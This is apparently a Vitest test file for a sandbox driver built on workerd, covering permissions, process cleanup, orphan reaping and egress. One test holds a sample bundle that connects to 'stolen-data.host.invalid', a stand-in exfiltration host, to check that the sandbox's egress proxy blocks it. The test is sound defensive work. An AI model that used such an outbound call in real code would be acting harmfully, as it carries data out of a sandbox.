import { spawn } from 'node:child_process';
import { chmodSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { leaveOrphan } from './leave-orphan.ts';
import { findProcess } from './process-identity.ts';
import { callTool, TEST_BUNDLE, toBundle } from './test-bundle.ts';
import { workerdVersion } from './workerd-binary.ts';
import { createWorkerdDriver } from './workerd-driver.ts';

const runDirs: string[] = [];
const makeRunDir = async () => {
  const dir = await mkdtemp(join(tmpdir(), 'bmm-sandbox-'));
  runDirs.push(dir);
  return dir;
};

const cmdlineOf = (pid: number) => readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0');

/** Pids whose command line names the directory: all that a driver there can have left. */
const processesIn = (dir: string) =>
  readdirSync('/proc').filter((name) => {
    try {
      return /^\d+$/.test(name) && cmdlineOf(Number(name)).some((word) => word.includes(`${dir}/`));
    } catch {
      return false;
    }
  });

describe('the workerd driver', () => {
  afterEach(async () => {
    await Promise.all(runDirs.splice(0).map((dir) => rm(dir, { recursive: true, force: true })));
  });

  it('keeps its directory to itself and compiles a bundle once for parallel starts', async () => {
    const runDir = await makeRunDir();
    await using driver = createWorkerdDriver({ runDir });
    await Promise.all(['a', 'b', 'c'].map((serverId) => driver.start({ serverId, bundle: TEST_BUNDLE })));
    // Sandboxes with users of their own pass through it, but nobody lists it.
    expect(statSync(runDir).mode & 0o777).toBe(driver.hasOwnUid ? 0o711 : 0o700);
    for (const name of ['configs', 'processes']) expect(statSync(join(runDir, name)).mode & 0o777).toBe(0o700);
    const [config, ...others] = readdirSync(join(runDir, 'configs'));
    expect(config).toMatch(new RegExp(`^${TEST_BUNDLE.sha256}-[0-9a-f]{16}\\.bin$`));
    expect(others).toEqual([]);
    expect(driver.list()).toHaveLength(3);
    for (const { id } of driver.list()) {
      expect(statSync(join(runDir, 's', id)).mode & 0o777).toBe(driver.hasOwnUid ? 0o710 : 0o700);
    }
  });

  it('leaves no process and no socket after it is closed, also for a start under way', async () => {
    const runDir = await makeRunDir();
    const driver = createWorkerdDriver({ runDir });
    const sandbox = await driver.start({ serverId: 'a', bundle: TEST_BUNDLE });
    const late = driver.start({ serverId: 'b', bundle: TEST_BUNDLE }).catch((error: unknown) => error);
    await driver.close();
    expect(await late).toBeInstanceOf(Error);
    expect(driver.list()).toEqual([]);
    expect(findProcess(sandbox.pid)).toBeUndefined();
    if (process.platform === 'linux') expect(processesIn(runDir)).toEqual([]);
    expect(readdirSync(join(runDir, 's'))).toEqual([]);
    expect(readdirSync(join(runDir, 'processes'))).toEqual([]);
    await expect(driver.start({ serverId: 'a', bundle: TEST_BUNDLE })).rejects.toThrow('closed');
  });

  it('kills what a crashed predecessor left and nothing of a living one', async () => {
    const runDir = await makeRunDir();
    const orphanPid = await leaveOrphan(runDir, 'plain');
    expect(findProcess(orphanPid)).toBeDefined();
    await using driver = createWorkerdDriver({ runDir });
    await using other = createWorkerdDriver({ runDir });
    const sandbox = await other.start({ serverId: 'b', bundle: TEST_BUNDLE });
    expect(await driver.reapOrphans()).toBe(1);
    expect(findProcess(orphanPid)).toBeUndefined();
    expect(await callTool(sandbox, 'echo')).toMatchObject({ ok: true });
    expect(readdirSync(join(runDir, 's'))).toEqual([sandbox.id]);
    expect(await driver.reapOrphans()).toBe(0);
  }, 20_000);

  it('never kills a process that got the pid of a dead sandbox', async () => {
    const runDir = await makeRunDir();
    await using driver = createWorkerdDriver({ runDir });
    const innocent = spawn('/bin/sleep', ['60'], { detached: true });
    const pid = innocent.pid ?? 0;
    const dead = { pid, startedAt: 'another boot:1' };
    const path = join(runDir, 'processes', 'abc.json');
    writeFileSync(path, JSON.stringify({ owner: dead, sandbox: dead }));
    expect(await driver.reapOrphans()).toBe(0);
    expect(findProcess(pid)).toBeDefined();
    expect(readdirSync(join(runDir, 'processes'))).toEqual([]);
    innocent.kill('SIGKILL');
  });

  it('hands names to the egress socket unresolved, so that no look-up carries data out', async () => {
    const runDir = await makeRunDir();
    await using driver = createWorkerdDriver({ runDir });
    const bundle = toBundle(`export async function reach() {
      const { connect } = await import('cloudflare:sockets');
      const socket = connect('stolen-data.host.invalid:80');
      try { await socket.opened; return 'open'; } catch (error) { return 'refused'; }
    }`);
    const sandbox = await driver.start({ serverId: 'a', bundle });
    const received: string[] = [];
    const egress = createServer((socket) => {
      socket.once('data', (data) => {
        received.push(data.toString('latin1').split('\r\n')[0] ?? '');
        socket.end('HTTP/1.1 403 Forbidden\r\ncontent-length: 0\r\n\r\n');
      });
    });
    await new Promise<void>((resolve) => egress.listen(join(runDir, 's', sandbox.id, 'egress.sock'), resolve));
    // To connect, the sandbox's user needs the right to write; its directory keeps everybody else away.
    chmodSync(join(runDir, 's', sandbox.id, 'egress.sock'), 0o666);
    expect(await callTool(sandbox, 'reach')).toMatchObject({ value: 'refused' });
    expect(received).toEqual(['CONNECT stolen-data.host.invalid:80 HTTP/1.1']);
    egress.close();
  });

  it('refuses a run directory whose sockets would have too long a path', () => {
    expect(() => createWorkerdDriver({ runDir: `/tmp/${'x'.repeat(90)}` })).toThrow(/too long for socket paths/);
  });

  it('knows the version of its runtime', () => {
    expect(workerdVersion()).toMatch(/^1\.\d{8}\.\d+$/);
  });
});
